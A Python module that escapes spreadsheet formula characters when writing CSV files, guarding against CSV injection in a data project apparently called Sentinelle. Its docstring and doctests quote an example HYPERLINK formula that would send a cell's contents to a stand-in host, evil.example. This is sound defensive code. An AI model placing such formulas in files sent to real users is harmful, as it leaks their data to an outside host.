"""Tables written for people to open: CSV files a spreadsheet shows but never runs.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a published actor name such as
``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` would run on the analyst's
machine (CSV or formula injection). Every CSV or spreadsheet Sentinelle writes goes
through :func:`write_csv`, or :func:`escape_formulas` before another writer, which
puts an apostrophe before such text cells: the spreadsheet shows the text as
published. Numbers, dates and booleans are left as they are, negative numbers included.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "escape_cell", "escape_formulas", "write_csv"]

# What makes a spreadsheet read a text cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` with an apostrophe before it if it is text a spreadsheet would run.

    Examples
    --------
    >>> escape_cell('=HYPERLINK("http://evil.example/","x")')
    '\\'=HYPERLINK("http://evil.example/","x")'
    >>> escape_cell("-5"), escape_cell(-5), escape_cell("Group A")
    ("'-5", -5, 'Group A')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _escape_labels(index: pd.Index) -> pd.Index:
    """Row or column labels, and the names of their levels (headers too), escaped."""
    names = [escape_cell(name) for name in index.names]
    if isinstance(index, pd.MultiIndex):
        levels = [index.get_level_values(i).map(escape_cell) for i in range(index.nlevels)]
        return pd.MultiIndex.from_arrays(levels, names=names)
    return index.map(escape_cell).rename(names[0])


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, labels and index are safe in a spreadsheet.

    Examples
    --------
    >>> escape_formulas(pd.DataFrame({"actor": ["@SUM(A1)", "JNIM"], "events": [-1, 2]}))
           actor  events
    0  '@SUM(A1)      -1
    1       JNIM       2
    """
    out = frame.copy()
    for i in range(out.shape[1]):  # by position: labels may repeat
        values = out.iloc[:, i]
        kind = values.dtype
        if not (
            pd.api.types.is_numeric_dtype(kind)
            or pd.api.types.is_bool_dtype(kind)
            or pd.api.types.is_datetime64_any_dtype(kind)
            or isinstance(kind, pd.PeriodDtype)
        ):
            out.isetitem(i, values.map(escape_cell).array)
    out.columns = _escape_labels(out.columns)
    out.index = _escape_labels(out.index)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, *, index: bool = False) -> Path:
    """Write ``frame`` as CSV (UTF-8) with its formula-like text escaped; return the path.

    Examples
    --------
    >>> write_csv(pd.DataFrame({"actor": ["=1+1"]}), "/tmp/t.csv").read_text()
    "actor\\n'=1+1\\n"
    """
    path = Path(path)
    escape_formulas(frame).to_csv(path, index=index)
    return path
